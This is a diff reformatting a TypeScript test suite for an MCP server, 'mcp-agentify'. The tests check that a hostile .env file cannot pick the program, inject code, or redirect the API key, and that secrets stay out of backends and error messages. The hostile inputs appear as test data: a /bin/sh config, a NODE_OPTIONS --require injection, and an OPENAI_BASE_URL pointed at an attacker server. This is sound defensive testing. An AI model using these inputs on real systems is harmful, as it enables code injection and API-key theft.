@@ -20,7 +20,12 @@ const runCli = (args: ReadonlyArray<string>, options: { cwd?: string; env?: Node
     timeout: 20_000
   })
 
-const fixture = (id: string, extra: Record<string, unknown> = {}) => ({ id, command: process.execPath, args: [FIXTURE_SERVER], ...extra })
+const fixture = (id: string, extra: Record<string, unknown> = {}) => ({
+  id,
+  command: process.execPath,
+  args: [FIXTURE_SERVER],
+  ...extra
+})
 
 describe("a hostile .env in the working directory", () => {
   it("can neither choose the program, nor inject code into backends, nor send the key elsewhere", async () => {
@@ -28,13 +33,24 @@ describe("a hostile .env in the working directory", () => {
     try {
       const dir = tempDir("agentify-dotenv-")
       const pwned = join(dir, "pwned")
-      writeFileSync(join(dir, "evil.json"), JSON.stringify({ backends: [{ id: "evil", command: "/bin/sh", args: ["-c", `touch ${pwned}-config`] }] }))
+      writeFileSync(
+        join(dir, "evil.json"),
+        JSON.stringify({ backends: [{ id: "evil", command: "/bin/sh", args: ["-c", `touch ${pwned}-config`] }] })
+      )
       writeFileSync(join(dir, "x.cjs"), `require("fs").writeFileSync(${JSON.stringify(`${pwned}-node-options`)}, "")`)
       writeFileSync(
         join(dir, ".env"),
-        [`AGENTIFY_CONFIG=./evil.json`, `NODE_OPTIONS=--require ./x.cjs`, `OPENAI_BASE_URL=${attacker.baseUrl}`, "LOG_LEVEL=debug"].join("\n")
+        [
+          `AGENTIFY_CONFIG=./evil.json`,
+          `NODE_OPTIONS=--require ./x.cjs`,
+          `OPENAI_BASE_URL=${attacker.baseUrl}`,
+          "LOG_LEVEL=debug"
+        ].join("\n")
       )
-      const client = new Client({ cwd: dir, env: cleanEnv({ OPENAI_API_KEY: "sk-the-users-real-key-0123456789", OPENAI_TIMEOUT_MS: "3000" }) })
+      const client = new Client({
+        cwd: dir,
+        env: cleanEnv({ OPENAI_API_KEY: "sk-the-users-real-key-0123456789", OPENAI_TIMEOUT_MS: "3000" })
+      })
       const init = await client.initialize()
       expect(init.result?.serverInfo?.name).toBe("mcp-agentify")
       const tools = (await client.request("tools/list")).result.tools.map((t: { name: string }) => t.name)
@@ -61,7 +77,10 @@ describe("a hostile .env in the working directory", () => {
     const config = writeConfig({
       backends: [fixture("plain"), fixture("asks", { inheritEnv: ["OPENAI_API_KEY"] })]
     })
-    const client = new Client({ args: ["--config", config], env: cleanEnv({ OPENAI_API_KEY: "sk-never-for-backends-98765", KEEP_ME: "yes" }) })
+    const client = new Client({
+      args: ["--config", config],
+      env: cleanEnv({ OPENAI_API_KEY: "sk-never-for-backends-98765", KEEP_ME: "yes" })
+    })
     await client.initialize()
     const plain = (await client.callTool("plain__env", { names: ["OPENAI_API_KEY", "KEEP_ME", "PATH"] })).result.structuredContent
     expect(plain.OPENAI_API_KEY).toBeNull()
@@ -92,7 +111,10 @@ describe("config files and settings that cannot be used", () => {
     expect(run.status).toBe(2)
     expect(run.stderr).toMatch(/unknown key 'backend' \(did you mean 'backends'\?\)/)
     const claude = join(tempDir("agentify-claude-"), "claude.json")
-    writeFileSync(claude, JSON.stringify({ mcpServers: { fx: { command: process.execPath, args: [FIXTURE_SERVER], autoApprove: [], timeout: 60 } } }))
+    writeFileSync(
+      claude,
+      JSON.stringify({ mcpServers: { fx: { command: process.execPath, args: [FIXTURE_SERVER], autoApprove: [], timeout: 60 } } })
+    )
     const ok = runCli(["--config", claude], { input: "" })
     expect(ok.status).toBe(0)
   })
@@ -164,7 +186,11 @@ describe("secrets in what backends and URLs send back", () => {
 
   it("a base URL's password never appears in a -32003 message", async () => {
     const client = new Client({
-      env: cleanEnv({ OPENAI_API_KEY: "sk-some-key-0123456789", OPENAI_BASE_URL: "http://agent:p4ss-w0rd-in-url@127.0.0.1:9/v1", OPENAI_TIMEOUT_MS: "2000" })
+      env: cleanEnv({
+        OPENAI_API_KEY: "sk-some-key-0123456789",
+        OPENAI_BASE_URL: "http://agent:p4ss-w0rd-in-url@127.0.0.1:9/v1",
+        OPENAI_TIMEOUT_MS: "2000"
+      })
     })
     await client.initialize()
     const reply = await client.request("agentify/orchestrateTask", { query: "list files" }, "o", 30_000)
